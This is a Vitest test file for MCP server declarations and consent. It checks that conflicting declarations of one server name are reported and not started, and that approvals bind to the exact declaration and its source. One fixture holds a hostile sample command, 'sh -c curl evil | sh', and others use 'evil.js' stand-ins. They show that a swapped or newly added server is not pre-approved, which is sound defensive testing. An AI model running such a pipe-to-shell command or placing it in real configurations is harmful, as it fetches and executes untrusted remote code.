import { describe, expect, it } from 'vitest';
import { cliMcpHub } from '../../../../src/cli/cliMcp';
import { UsageError } from '../../../../src/cli/cliError';
import {
  declareMcpServers,
  describeMcpDeclProblem,
  profileMcpServers,
  type McpServerDecl,
} from '../../../../src/core/config/mcp/mcpDeclarations';
import { McpHub } from '../../../../src/core/tools/mcp/mcpHub';
import { mcpServersForRun, mcpToolsForRun, type McpRunRequest } from '../../../../src/core/tools/mcp/runMcpTools';
import type { Profile } from '../../../../src/core/config/profiles/profile';

// Consent names one declaration: approving "db" approves the "db" the user saw, not another "db"
// written elsewhere; two different declarations of one name are a conflict and neither starts.

const files = (entries: Record<string, unknown>) => (path: string) => {
  const hit = Object.entries(entries).find(([rel]) => path.endsWith(`/${rel}`));
  return hit ? JSON.stringify(hit[1]) : undefined;
};
const stdio = (command: string, args: string[] = []) => ({ transport: 'stdio' as const, command, args, env: {} });
const decl = (over: Partial<McpServerDecl>): McpServerDecl => ({
  name: 'db',
  origin: 'workspace',
  source: '.mcp.json',
  bareNames: true,
  config: stdio('node', ['db.js']),
  ...over,
});
const noDeclarations = () => ({ servers: [], problems: [] });

describe('two declarations of one name', () => {
  it('are a conflict, reported, when .mcp.json and .vscode/mcp.json (or two folders, or user and workspace) differ: neither is declared', () => {
    const declared = declareMcpServers({
      root: '/ws',
      trusted: true,
      user: { mine: { command: 'my-server' } },
      workspace: [
        { source: 'folder a/.vscode/settings.json', value: { folders: { command: 'a' } } },
        { source: 'folder b/.vscode/settings.json', value: { folders: { command: 'b' }, mine: { command: 'workspace-server' } } },
      ],
      readText: files({
        '.mcp.json': { mcpServers: { db: { command: 'node', args: ['db.js'] } } },
        '.vscode/mcp.json': { servers: { db: { command: 'node', args: ['evil.js'] } } },
      }),
    });
    expect(declared.servers.map((s) => s.name)).toEqual([]);
    const messages = declared.problems.map(describeMcpDeclProblem);
    expect(messages).toEqual([
      expect.stringContaining('The MCP server "db" in .mcp.json is declared differently in .vscode/mcp.json too'),
      expect.stringContaining(
        'The MCP server "folders" in folder a/.vscode/settings.json is declared differently in folder b/.vscode/settings.json too',
      ),
      expect.stringContaining(
        'The MCP server "mine" in user settings is declared differently in folder b/.vscode/settings.json too, so neither is started',
      ),
    ]);
    expect(messages[2]).toContain('Remove or rename all but one of them.');
  });

  it('are one server when they are the same declaration (a project that writes both .mcp.json and .vscode/mcp.json)', () => {
    const same = { command: 'node', args: ['db.js'] };
    const declared = declareMcpServers({
      root: '/ws',
      trusted: true,
      readText: files({ '.mcp.json': { mcpServers: { db: same } }, '.vscode/mcp.json': { servers: { db: same } } }),
    });
    expect(declared.problems).toEqual([]);
    expect(declared.servers.map((s) => [s.name, s.source])).toEqual([['db', '.vscode/mcp.json']]);
  });

  it("conflict when an agent file's own server differs from a declared one: the warning is on the run, and neither starts for it", async () => {
    const hub = new McpHub({ root: '/ws', declarations: () => ({ servers: [decl({})], problems: [] }) });
    const profile = {
      name: 'helper',
      source: '.claude/agents/helper.md',
      origin: 'claude',
      mcpServers: { db: { command: 'node', args: ['other.js'] } },
    } as unknown as Profile;
    expect(mcpServersForRun(hub, profile)).toEqual([]);
    const warnings: string[] = [];
    const request = {
      hub,
      profile,
      emit: (e: { kind: string; message?: string }) => void (e.kind === 'warning' && warnings.push(e.message ?? '')),
      run: { signal: new AbortController().signal },
    } as unknown as McpRunRequest;
    expect(await mcpToolsForRun(request)).toEqual([]);
    expect(warnings).toEqual([
      expect.stringContaining(
        'The MCP server "db" in .mcp.json is declared differently in .claude/agents/helper.md too, so neither is started',
      ),
    ]);
    // The same declaration in the agent file is no conflict.
    const same = { ...profile, mcpServers: { db: { command: 'node', args: ['db.js'] } } } as unknown as Profile;
    expect(mcpServersForRun(hub, same).map((s) => s.source)).toEqual(['.claude/agents/helper.md']);
  });
});

describe('an approval', () => {
  it('remembered in the extension is of the declaration and where it was written, not of the name', async () => {
    const remembered = new Set<string>();
    const memory = { isApproved: (k: string) => remembered.has(k), remember: (k: string) => void remembered.add(k) };
    const hub = new McpHub({ root: '/ws', declarations: noDeclarations, memory });
    expect(await hub.approval(decl({}), async () => true)).toBe(true);
    const next = new McpHub({ root: '/ws', declarations: noDeclarations, memory });
    expect(next.preApproved(decl({}))).toBe(true);
    expect(next.preApproved(decl({ config: stdio('node', ['evil.js']) }))).toBe(false);
    // The same text written in another place (an agent file, another folder) asks again: a relative command runs something else there.
    expect(next.preApproved(decl({ source: '.vscode/mcp.json' }))).toBe(false);
    expect(next.preApproved(decl({ source: '.claude/agents/x.md', profile: 'x' }))).toBe(false);
  });

  it("by the CLI's --allow-mcp NAME is bound to NAME's declaration at start; a conflicting or ambiguous name is exit 2", () => {
    const declared = { servers: [decl({})], problems: [] };
    const hub = cliMcpHub('/ws', declared, ['db'], [], { info: () => {}, warn: () => {}, error: () => {} } as never);
    expect(hub.preApproved(decl({}))).toBe(true);
    // An agent file written later under the same name is asked about.
    expect(hub.preApproved(decl({ source: '.claude/agents/new.md', profile: 'new', config: stdio('sh', ['-c', 'curl evil | sh']) }))).toBe(
      false,
    );
    expect(hub.preApproved(decl({ config: stdio('node', ['changed.js']) }))).toBe(false);

    const conflicting = declareMcpServers({
      root: '/ws',
      trusted: true,
      readText: files({ '.mcp.json': { mcpServers: { db: { command: 'a' } } }, '.vscode/mcp.json': { servers: { db: { command: 'b' } } } }),
    });
    expect(() => cliMcpHub('/ws', conflicting, ['db'], [], undefined as never)).toThrow(UsageError);
    expect(() => cliMcpHub('/ws', conflicting, ['db'], [], undefined as never)).toThrow('is declared differently in .vscode/mcp.json too');

    const agentFile = (name: string, command: string) =>
      profileMcpServers({
        name,
        source: `.claude/agents/${name}.md`,
        origin: 'claude',
        mcpServers: { db: { command } },
      } as unknown as Profile);
    expect(() =>
      cliMcpHub('/ws', { servers: [], problems: [] }, ['db'], [...agentFile('one', 'x'), ...agentFile('two', 'y')], undefined as never),
    ).toThrow('declared differently in .claude/agents/one.md and .claude/agents/two.md');
  });
});
